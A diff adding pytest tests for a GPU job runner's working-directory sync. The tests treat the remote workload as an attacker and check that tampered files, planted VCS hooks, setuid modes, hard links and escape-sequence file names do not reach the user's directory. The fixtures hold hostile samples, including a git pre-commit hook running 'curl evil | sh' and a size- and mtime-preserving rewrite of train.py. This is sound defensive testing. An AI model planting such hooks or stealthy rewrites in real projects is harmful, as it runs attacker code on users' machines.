@@ -7,6 +7,11 @@ The working directory travels there, the workload sees it at the same path, and 
 writes comes back into the user's directory on every ending: success, a failing exit
 code, Ctrl-C. The same project run on the local engine (which sees the directory and binds
 it) gives the same output and the same files. gpuenv/run/sync.py is what is under test.
+
+The workload as attacker (issue 44, N3 and N4): a rewrite it leaves in the copy there does
+not reach the next run; what it sends back stops at the way out's limits, takes the user's
+modes, and a swap, a hard link or a hook under another spelling is a warning or nothing,
+never a traceback. The 25,000-file test runs last: the lab's copy is left with them.
 """
 
 from __future__ import annotations
@@ -24,6 +29,8 @@ import pytest
 from support.another_host import AnotherHost, another_host
 from support.cells import BASE_IMAGE
 from support.cli import GPUENV, clean_env, output, run
+
+from gpuenv.run.workdir import MAX_BYTES, MAX_FILES
 
 IMAGE = BASE_IMAGE  # Debian + python3: no cell needs to be built on the lab
 
@@ -205,6 +212,167 @@ def test_the_local_engine_binds_the_directory_it_sees(tmp_path):
     proc = gpuenv_run(proj, env, check=True)
     assert "working directory via" not in proc.stderr
     assert sorted(os.listdir(proj)) == [".env", "ckpt", "data", "train.log", "train.py"]
+
+
+# -- The workload as attacker (issue 44, N3 and N4): what it leaves there or sends back.
+
+
+def workload(cwd: Path, env: dict[str, str], code: str) -> subprocess.CompletedProcess[str]:
+    return run([*GPUENV, "run", "-i", IMAGE, "--", "python3", "-c", code],
+               cwd=cwd, env=env, check=False, timeout=300)  # fmt: skip
+
+
+def no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
+    assert proc.returncode == 0, output(proc)
+    assert "Traceback" not in proc.stderr, proc.stderr
+
+
+def warnings(stderr: str) -> list[str]:
+    return [line for line in stderr.splitlines() if line.startswith("gpuenv: warning:")]
+
+
+REWRITE = """\
+import os
+st = os.stat("train.py")
+old = open("train.py").read()
+new = 'print("PWNED")'
+open("train.py", "w").write(new + " " * (len(old) - len(new) - 1) + "\\n")
+os.utime("train.py", ns=(st.st_atime_ns, st.st_mtime_ns))
+os.makedirs("__pycache__", exist_ok=True)
+open("__pycache__/planted.pyc", "w").write("x")
+"""
+
+
+def test_a_rewrite_keeping_size_and_mtime_does_not_survive_into_the_next_run(lab):
+    # The review's N3: run 1 rewrites train.py keeping size and mtime; the user's copy is
+    # untouched, so run 2 sends it again, and what the workload planted where nothing
+    # travels (a cache directory) is gone too.
+    proj = make_project(lab.project_dir)
+    env = env_for(lab, "tls")
+    first = workload(proj, env, REWRITE)
+    no_traceback(first)
+    assert (proj / "train.py").read_text() == TRAIN
+    second = run([*GPUENV, "run", "-i", IMAGE, "--", "sh", "-c",
+                  "head -c 9 train.py; echo; ls -A"],
+                 cwd=proj, env=env, check=False, timeout=300)  # fmt: skip
+    no_traceback(second)
+    assert second.stdout.splitlines()[0] == "import os", output(second)
+    assert "__pycache__" not in second.stdout.split(), output(second)
+    assert re.search(
+        r"sent 1 file \(\d+ B\)(, removed \d+ there)?, brought", crossed(second.stderr)
+    )
+
+
+SWAP = """\
+import os, shutil
+shutil.rmtree("out\\x1b[2J")
+open("out\\x1b[2J", "w").write("now a file")
+os.unlink("res")
+os.makedirs("res")
+open("res/b.txt", "w").write("now a directory")
+open("zz-after.txt", "w").write("still comes back")
+"""
+
+
+def test_a_file_directory_swap_is_a_warning_and_the_rest_comes_back(lab):
+    proj = make_project(lab.project_dir)
+    (proj / "out\x1b[2J").mkdir()
+    (proj / "out\x1b[2J" / "a.txt").write_text("mine")
+    (proj / "res").write_text("mine too")
+    proc = workload(proj, env_for(lab, "tls"), SWAP)
+    no_traceback(proc)
+    assert (proj / "out\x1b[2J" / "a.txt").read_text() == "mine"
+    assert (proj / "res").read_text() == "mine too"
+    assert (proj / "zz-after.txt").read_text() == "still comes back"
+    assert "\x1b" not in proc.stderr
+    assert sorted(warnings(proc.stderr)) == [
+        "gpuenv: warning: out\\x1b[2J not brought back: it is a directory here",
+        "gpuenv: warning: res/b.txt not brought back: res is a file here",
+    ], proc.stderr
+
+
+HOOKS = """\
+import os
+for top in (".Git", ".GIT", "sub/.git"):
+    os.makedirs(f"{top}/hooks", exist_ok=True)
+    with open(f"{top}/hooks/pre-commit", "w") as fh:
+        fh.write("#!/bin/sh\\ncurl evil | sh\\n")
+    os.chmod(f"{top}/hooks/pre-commit", 0o755)
+open("result.txt", "w").write("ok")
+"""
+
+
+def test_no_vcs_hook_comes_back_under_any_spelling(lab):
+    proj = make_project(lab.project_dir)
+    proc = workload(proj, env_for(lab, "tls"), HOOKS)
+    no_traceback(proc)
+    assert (proj / "result.txt").read_text() == "ok"
+    assert not [p for p in proj.rglob("*") if "hooks" in p.parts]
+    assert "brought back 1 file" in crossed(proc.stderr)
+
+
+MODES = """\
+import os
+for name, mode in (("world.txt", 0o666), ("run.sh", 0o4755), ("tool.sh", 0o644),
+                   ("notes.txt", 0o777)):
+    open(name, "w").write("written there\\n")
+    os.chmod(name, mode)
+with open("a.bin", "wb") as fh:
+    fh.write(b"linked")
+os.link("a.bin", "b.bin")
+"""
+
+
+def test_modes_follow_the_umask_and_hard_links_come_back_as_copies(lab):
+    proj = make_project(lab.project_dir)
+    (proj / "tool.sh").write_text("#!/bin/sh\n")
+    (proj / "tool.sh").chmod(0o750)
+    (proj / "notes.txt").write_text("mine\n")
+    (proj / "notes.txt").chmod(0o600)
+    proc = run(["sh", "-c", 'umask 027 && exec "$@"', "sh", *GPUENV, "run", "-i", IMAGE,
+                "--", "python3", "-c", MODES],
+               cwd=proj, env=env_for(lab, "tls"), check=False, timeout=300)  # fmt: skip
+    no_traceback(proc)
+    modes = {n: (proj / n).stat().st_mode & 0o7777 for n in
+             ("world.txt", "run.sh", "tool.sh", "notes.txt", "a.bin", "b.bin")}  # fmt: skip
+    # New files: the user's umask, never an execute bit; a file that was here keeps its own.
+    assert modes == {
+        "world.txt": 0o640,
+        "run.sh": 0o640,
+        "tool.sh": 0o750,
+        "notes.txt": 0o600,
+        "a.bin": 0o640,
+        "b.bin": 0o640,
+    }, {k: oct(v) for k, v in modes.items()}
+    assert (proj / "a.bin").read_bytes() == (proj / "b.bin").read_bytes() == b"linked"
+    assert (proj / "a.bin").stat().st_ino != (proj / "b.bin").stat().st_ino
+    assert warnings(proc.stderr) == [
+        "gpuenv: warning: a.bin, b.bin were hard links there; each came back as a file of its own"
+    ], proc.stderr
+
+
+MANY = """\
+import os
+os.makedirs("out", exist_ok=True)
+for i in range(25_000):
+    open(f"out/{i:05}", "w").write("x")
+open("zz-last.txt", "w").write("done")
+"""
+
+
+def test_past_the_limits_one_line_names_what_did_not_come_back(lab):
+    proj = make_project(lab.project_dir)
+    proc = workload(proj, env_for(lab, "tls"), MANY)
+    no_traceback(proc)
+    assert len(os.listdir(proj / "out")) + (proj / "zz-last.txt").exists() == MAX_FILES == 20_000
+    said = warnings(proc.stderr)
+    assert said == [
+        "gpuenv: warning: 5001 files (5.0 kB) not brought back, past the limits of what gpuenv "
+        f"brings back (20000 files, {MAX_BYTES >> 20} MiB): out/ (5000), zz-last.txt; put data "
+        "in a volume on the engine (-v NAME:/data)"
+    ], said
+    assert "brought back 20000 files" in crossed(proc.stderr)
+    make_project(proj)  # 20,000 files here would be refused on the way out
 
 
 # -- What of the user's tree leaves the machine (issue 44, M5, N5, N6): matrix/treepolicy.py.
